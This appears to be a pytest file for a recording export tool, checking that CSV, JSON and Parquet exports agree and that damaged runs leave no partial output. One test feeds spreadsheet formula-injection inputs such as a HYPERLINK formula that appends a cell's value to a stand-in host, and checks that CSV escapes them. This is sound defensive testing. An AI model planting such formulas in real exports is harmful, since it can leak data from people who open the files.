"""Exports hold what the recording holds, the same in every format."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any, Literal

import pandas as pd
import pyarrow.parquet as pq
import pytest
from recording_scenario import write_turns

from nae_monitor.recording import Recording, export

ODD = 'a "quoted", line\nbroken; =SUM(A1)\u2028ümlaut \U0001f600'


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_turns(tmp_path_factory.mktemp("export") / "run", text=ODD)


def read(path: Path) -> list[dict[str, Any]]:
    if path.suffix == ".parquet":
        return list(pq.read_table(path).to_pylist())
    with path.open(encoding="utf-8", newline="") as file:
        return (
            [json.loads(line) for line in file]
            if path.suffix == ".json"
            else [*csv.DictReader(file)]
        )


def plain(value: Any) -> str:
    """As CSV can tell it."""
    return "" if value is None else str(value)


@pytest.mark.parametrize("kind", ["csv", "json", "parquet"])
def test_each_table_holds_every_row_of_the_recording(run: Path, tmp_path: Path, kind: Any) -> None:
    written = export(run, tmp_path, kind)
    recording = Recording.open(run)
    tables = {path.stem: read(path) for path in written}
    assert {path.name: rows for path, rows in written.items()} == {
        f"{name}.{kind}": len(rows) for name, rows in tables.items()
    }
    rows = list(recording.activations())
    assert [(row["request_id"], plain(row["position"])) for row in tables["activations"]] == [
        (row.activation.request.request_id, str(row.activation.position)) for row in rows
    ]
    assert [row["explanation"] for row in tables["activations"]] == [
        row.decoding.text for row in rows if row.decoding
    ]
    assert all("activation_vector" not in row for row in tables["activations"])
    assert [row["prompt_text"] for row in tables["requests"]] == [
        record.prompt_text for record in recording.requests()
    ]
    assert [json.loads(row["dropped_tokens"]) for row in tables["requests"]] == [
        dict(record.coverage.dropped_tokens) for record in recording.requests()
    ]
    spans = [json.loads(row["spans"]) for row in tables["findings"]]
    assert [span[0]["text"] for span in spans] == [
        finding.spans[0].text for finding in recording.findings()
    ]


def test_all_formats_say_the_same(run: Path, tmp_path: Path) -> None:
    for kind in ("csv", "json", "parquet"):
        export(run, tmp_path, kind)  # type: ignore[arg-type]
    for name in ("requests", "activations", "findings"):
        typed = read(tmp_path / f"{name}.parquet")
        assert read(tmp_path / f"{name}.json") == typed
        told = [{key: plain(value) for key, value in row.items()} for row in typed]
        assert read(tmp_path / f"{name}.csv") == told


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_only_csv_quotes_text_that_a_spreadsheet_would_compute(tmp_path: Path, first: str) -> None:
    text = f'{first}HYPERLINK("//x?"&A1)'
    path = write_turns(tmp_path / "run", requests=1, text=text)
    told = {}
    kinds: tuple[Literal["csv", "json", "parquet"], ...] = ("csv", "json", "parquet")
    for kind in kinds:
        export(path, tmp_path, kind)
        (record,) = read(tmp_path / f"requests.{kind}")
        row = read(tmp_path / f"activations.{kind}")[0]
        told[kind] = {record["prompt_text"], row["explanation"]}
    assert told == {"csv": {f"'{text}"}, "json": {text}, "parquet": {text}}


def test_pandas_reads_each_format(run: Path, tmp_path: Path) -> None:
    for kind in ("csv", "json", "parquet"):
        export(run, tmp_path, kind)  # type: ignore[arg-type]
    frames = [
        pd.read_csv(tmp_path / "findings.csv"),
        pd.read_json(tmp_path / "findings.json", lines=True),
        pd.read_parquet(tmp_path / "findings.parquet"),
    ]
    assert len({(len(frame), tuple(frame["rule_name"])) for frame in frames}) == 1


def test_a_damaged_run_leaves_no_half_table(run: Path, tmp_path: Path) -> None:
    import shutil

    broken = tmp_path / "run"
    shutil.copytree(run, broken)
    data = bytearray((broken / "activations-00001.parquet").read_bytes())
    data[100] ^= 1
    (broken / "activations-00001.parquet").write_bytes(data)
    with pytest.raises(Exception, match="activations-00001"):
        export(broken, tmp_path / "out", "json")
    assert {path.name for path in (tmp_path / "out").iterdir()} == {"requests.json"}
